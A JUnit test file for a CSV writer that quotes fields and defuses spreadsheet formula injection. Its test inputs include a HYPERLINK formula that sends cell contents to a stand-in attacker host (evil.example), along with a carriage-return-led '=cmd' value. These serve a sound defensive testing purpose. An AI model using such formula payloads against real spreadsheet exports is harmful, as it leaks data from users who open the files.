package com.activesessions.export.interfaces.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void plainFieldsAreWrittenAsTheyAreAndLinesEndWithCrLf() {
        assertEquals("When,Signed in,192.0.2.1\r\n", csv(List.of("When", "Signed in", "192.0.2.1")));
    }

    @Test
    void commasQuotesAndLineBreaksAreQuotedWithQuotesDoubled() {
        assertEquals(
                "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\"\r\n",
                csv(List.of("a,b", "say \"hi\"", "two\nlines", "cr\rhere")));
    }

    @Test
    void aFormulaBecomesTextWithALeadingApostrophe() {
        assertEquals("'=1+1,'+1,'-1,'@SUM(A1),'\tx\r\n", csv(List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx")));
    }

    @Test
    void aHyperlinkFormulaWithQuotesAndCommasIsDefusedAndQuoted() {
        assertEquals(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n",
                csv(List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")));
    }

    @Test
    void aCarriageReturnFirstIsDefusedAndQuoted() {
        assertEquals("\"'\r=cmd\"\r\n", csv(List.of("\r=cmd")));
    }

    @Test
    void nullAndEmptyFieldsAreEmpty() throws IOException {
        assertEquals(List.of("", "", "x"), readBack(csv(Arrays.asList(null, "", "x"))));
        assertEquals("x,,\r\n", csv(Arrays.asList("x", null, "")));
    }

    @Test
    void manyLinesGoOutOneByOneAndReadBackAsTheyWere() throws IOException {
        StringWriter out = new StringWriter();
        CsvWriter writer = new CsvWriter(out);
        writer.row(List.of("When", "Event"));
        int before = out.getBuffer().length();

        writer.row(List.of("2026-12-05T08:00:00Z", "Signed in, from \"home\""));

        assertTrue(out.getBuffer().length() > before, "the line is in the writer as soon as it is written");
        assertEquals(
                List.of("2026-12-05T08:00:00Z", "Signed in, from \"home\""),
                readBack(out.toString().substring(before)));
    }

    /** The one line, read as a spreadsheet reads CSV. */
    private static List<String> readBack(String line) throws IOException {
        try (CSVParser parser = CSVParser.parse(line, CSVFormat.RFC4180)) {
            return parser.getRecords().get(0).toList();
        }
    }

    private static String csv(List<String> fields) {
        StringWriter out = new StringWriter();
        new CsvWriter(out).row(fields);
        return out.toString();
    }
}
